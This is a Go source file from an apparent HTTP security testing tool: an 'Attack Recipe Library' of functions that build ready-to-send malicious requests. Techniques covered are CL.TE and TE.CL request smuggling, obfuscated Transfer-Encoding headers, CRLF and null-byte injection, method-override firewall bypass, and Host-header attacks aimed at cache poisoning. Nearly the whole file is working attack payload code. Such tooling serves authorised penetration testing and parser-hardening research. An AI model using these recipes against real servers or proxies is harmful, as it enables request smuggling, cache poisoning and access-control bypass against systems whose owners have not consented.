// Package recipes implements the Attack Recipe Library (C10): parameterized
// constructors that each return a ready-to-send *assembler.Plan embodying
// one named HTTP desync/obfuscation/injection technique.
package recipes

import (
	"fmt"
	"strings"

	"github.com/google/uuid"
	"github.com/hashicorp/go-multierror"

	"github.com/nullbyte-labs/httpforge/pkg/assembler"
)

// SmugglingCLTE builds a CL.TE desync probe: both Content-Length and
// Transfer-Encoding are present; the front-end is expected to honor
// Content-Length while the back-end honors Transfer-Encoding, desyncing
// the two on where the request body ends. Content-Length covers the whole
// body, zero-size chunk and smuggled request alike, so a CL-trusting parse
// forwards it all as one request while a TE-trusting parse stops at the
// zero-size chunk and reads the smuggled request as the next one.
func SmugglingCLTE(path string, smuggledRequest string) *assembler.Plan {
	body := "0\r\n\r\n" + smuggledRequest
	p := assembler.New().
		SetMethod("POST").
		SetPath(path).
		AddHeader("Content-Length", fmt.Sprintf("%d", len(body))).
		AddHeader("Transfer-Encoding", "chunked").
		SetBody([]byte(body))
	return p
}

// SmugglingTECL builds a TE.CL desync probe: the front-end honors
// Transfer-Encoding while the back-end honors Content-Length. Content-Length
// is set to cover only the first chunk's size line, not the whole body, so a
// back-end that trusts it stops reading right after that line and leaves the
// chunk data plus terminator unconsumed — the classic short-count that
// smuggles the remainder as the start of the next pipelined request. Setting
// Content-Length to the full body length would make the two parses agree
// and produce no desync at all.
func SmugglingTECL(path string, chunkedBody string) *assembler.Plan {
	clLen := len(chunkedBody)
	if i := strings.Index(chunkedBody, "\r\n"); i >= 0 {
		clLen = i + 2
	}
	p := assembler.New().
		SetMethod("POST").
		SetPath(path).
		AddHeader("Content-Length", fmt.Sprintf("%d", clLen)).
		AddHeader("Transfer-Encoding", "chunked").
		SetBody([]byte(chunkedBody))
	return p
}

// ObfuscationKind selects an obfuscated Transfer-Encoding header form.
type ObfuscationKind string

const (
	ObfuscationSpace      ObfuscationKind = "space"       // "Transfer-Encoding : chunked"
	ObfuscationTab        ObfuscationKind = "tab"         // "Transfer-Encoding:\tchunked"
	ObfuscationCase       ObfuscationKind = "case"        // "TrAnSfEr-EnCoDiNg: chunked"
	ObfuscationNull       ObfuscationKind = "null"         // "Transfer-Encoding: chunked\x00"
	ObfuscationVerticalTab ObfuscationKind = "vertical-tab" // "Transfer-Encoding:\x0bchunked"
	ObfuscationNewline    ObfuscationKind = "newline"      // "Transfer-Encoding:\nchunked" (bare LF before value)
)

// ObfuscatedTransferEncoding builds a request whose Transfer-Encoding
// header is written in one of several non-canonical forms, used to probe
// how strictly a parser normalizes header names/values before checking
// for chunked encoding.
func ObfuscatedTransferEncoding(path string, kind ObfuscationKind, body string) *assembler.Plan {
	p := assembler.New().SetMethod("POST").SetPath(path).SetBody([]byte(body))

	switch kind {
	case ObfuscationSpace:
		p.AddRawHeaderLine([]byte("Transfer-Encoding : chunked"))
	case ObfuscationTab:
		p.AddRawHeaderLine([]byte("Transfer-Encoding:\tchunked"))
	case ObfuscationCase:
		p.AddHeader("TrAnSfEr-EnCoDiNg", "chunked")
	case ObfuscationNull:
		p.AddRawHeaderLine([]byte("Transfer-Encoding: chunked\x00"))
	case ObfuscationVerticalTab:
		p.AddRawHeaderLine([]byte("Transfer-Encoding:\x0bchunked"))
	case ObfuscationNewline:
		p.AddRawHeaderLine([]byte("Transfer-Encoding:\nchunked"))
	}
	return p
}

// CRLFInjection builds a request whose path carries a percent-encoded CRLF
// sequence ("%0d%0a") followed by an injected header line and a second
// encoded CRLF, probing for header-injection via insufficient path
// decoding/sanitization.
func CRLFInjection(path string, injectedHeader string) *assembler.Plan {
	poisoned := path + "%0d%0a" + injectedHeader + "%0d%0a"
	return assembler.New().SetMethod("GET").SetPath(poisoned)
}

// DuplicateHeaders builds a request carrying the same header name twice
// with different values, probing for front-end/back-end first-vs-last
// disagreement.
func DuplicateHeaders(path, name, firstValue, secondValue string) *assembler.Plan {
	return assembler.New().
		SetMethod("GET").
		SetPath(path).
		AddHeader(name, firstValue).
		AddHeader(name, secondValue)
}

// OversizedHeader builds a request with a single header value padded to
// sizeBytes, probing buffer-size assumptions in intermediate proxies.
func OversizedHeader(path, name string, sizeBytes int) *assembler.Plan {
	return assembler.New().
		SetMethod("GET").
		SetPath(path).
		AddHeader(name, strings.Repeat("A", sizeBytes))
}

// NullByteInjection builds a request whose path carries a raw %00
// sequence, probing for C-string truncation bugs in path handling.
func NullByteInjection(path, suffix string) *assembler.Plan {
	return assembler.New().SetMethod("GET").SetPath(path + "%00" + suffix)
}

// MethodOverride builds a GET request carrying an X-HTTP-Method-Override
// header, probing whether a back-end honors the override to reach a
// handler that the real method/firewall rule would otherwise block.
func MethodOverride(path, overrideMethod string) *assembler.Plan {
	return assembler.New().
		SetMethod("GET").
		SetPath(path).
		AddHeader("X-HTTP-Method-Override", overrideMethod)
}

// AbsoluteURI builds a request whose request-line target is a full
// absolute URI (as used for proxy requests) instead of an origin-relative
// path, probing for inconsistent target parsing. port of 0 or the
// scheme's default (80 for http, 443 for https) is omitted from the
// authority, matching how a real proxy client renders the target.
func AbsoluteURI(scheme, host string, port int, path string) *assembler.Plan {
	authority := host
	if port != 0 && !isDefaultPort(scheme, port) {
		authority = fmt.Sprintf("%s:%d", host, port)
	}
	target := fmt.Sprintf("%s://%s%s", scheme, authority, path)
	return assembler.New().SetMethod("GET").SetPath(target)
}

func isDefaultPort(scheme string, port int) bool {
	switch scheme {
	case "http":
		return port == 80
	case "https":
		return port == 443
	}
	return false
}

// HostHeaderKind selects a Host-header attack variant.
type HostHeaderKind string

const (
	HostDuplicate    HostHeaderKind = "duplicate"     // two Host headers
	HostOverride     HostHeaderKind = "override"      // X-Forwarded-Host overriding Host
	HostAbsoluteURL  HostHeaderKind = "absolute-url"  // absolute-URI target + conflicting Host
	HostPortInjection HostHeaderKind = "port-injection" // Host with an injected bogus port
	HostSubdomain    HostHeaderKind = "subdomain"     // attacker-controlled subdomain of legitHost
)

// HostHeaderAttack builds a request exercising one Host-header ambiguity
// form, probing virtual-host routing and cache-poisoning surfaces.
func HostHeaderAttack(path, legitHost, attackerHost string, kind HostHeaderKind) *assembler.Plan {
	p := assembler.New().SetMethod("GET").SetPath(path)

	switch kind {
	case HostDuplicate:
		p.AddHeader("Host", legitHost)
		p.AddHeader("Host", attackerHost)
	case HostOverride:
		p.AddHeader("Host", legitHost)
		p.AddHeader("X-Forwarded-Host", attackerHost)
	case HostAbsoluteURL:
		p.SetPath(fmt.Sprintf("http://%s%s", attackerHost, path))
		p.AddHeader("Host", legitHost)
	case HostPortInjection:
		p.AddHeader("Host", legitHost+":"+attackerHost)
	case HostSubdomain:
		p.AddHeader("Host", attackerHost+"."+legitHost)
	}
	return p
}

// HTTP09Request builds a legacy HTTP/0.9 request: exactly "GET <path>\r\n"
// with no version token, no headers, and no body — the bare wire form a
// conforming HTTP/1.x parser was never designed to see.
func HTTP09Request(path string) *assembler.Plan {
	p := assembler.New().SetMethod("GET").SetPath(path)
	p.RawOverride = []byte("GET " + path + "\r\n")
	return p
}

// Chunk is one chunked-transfer-encoding chunk. Extension, when non-empty,
// is appended to the size line as ";extension" verbatim — e.g. an
// Extension of "a=b" renders the size line as "N;a=b\r\n" — letting a
// caller build the malformed "N; extension=value\r\n" size lines the
// smuggling recipes need to probe chunk-extension handling.
type Chunk struct {
	Data      string
	Extension string
}

// CreateChunkedBody renders a slice of chunks into a chunked-transfer-
// encoding body, terminator included. A chunk with a non-empty Extension
// produces a size line with that extension attached; otherwise the size
// line carries just the hex length.
func CreateChunkedBody(chunks []Chunk) string {
	var b strings.Builder
	for _, c := range chunks {
		if c.Extension != "" {
			fmt.Fprintf(&b, "%x;%s\r\n%s\r\n", len(c.Data), c.Extension, c.Data)
		} else {
			fmt.Fprintf(&b, "%x\r\n%s\r\n", len(c.Data), c.Data)
		}
	}
	b.WriteString("0\r\n\r\n")
	return b.String()
}

// SimpleChunks wraps plain chunk payloads with no extensions, a convenience
// for the common case.
func SimpleChunks(parts ...string) []Chunk {
	out := make([]Chunk, len(parts))
	for i, s := range parts {
		out[i] = Chunk{Data: s}
	}
	return out
}

// PipelineRequests builds a slice of independent GET plans for the given
// paths, ready to hand to a pipelined send — each keeps its own identity
// so a caller can match responses back to the path that produced them.
func PipelineRequests(paths []string) []*assembler.Plan {
	out := make([]*assembler.Plan, len(paths))
	for i, path := range paths {
		out[i] = assembler.New().SetMethod("GET").SetPath(path)
	}
	return out
}

// Campaign is a named group of plan variants sharing one trace id, used
// when a recipe is expanded into several concrete requests (e.g. one
// HostHeaderAttack per HostHeaderKind) that should be reported together.
type Campaign struct {
	ID    uuid.UUID
	Plans []*assembler.Plan
}

// NewCampaign groups plans under a fresh campaign id.
func NewCampaign(plans ...*assembler.Plan) Campaign {
	return Campaign{ID: uuid.New(), Plans: plans}
}

// ValidateAll runs a validator over every plan in the campaign, collecting
// every failure into a single multierror so a caller building a batch of
// variants doesn't stop at the first bad one.
func (c Campaign) ValidateAll(validate func(*assembler.Plan) error) error {
	var result *multierror.Error
	for i, p := range c.Plans {
		if err := validate(p); err != nil {
			result = multierror.Append(result, fmt.Errorf("plan %d: %w", i, err))
		}
	}
	return result.ErrorOrNil()
}
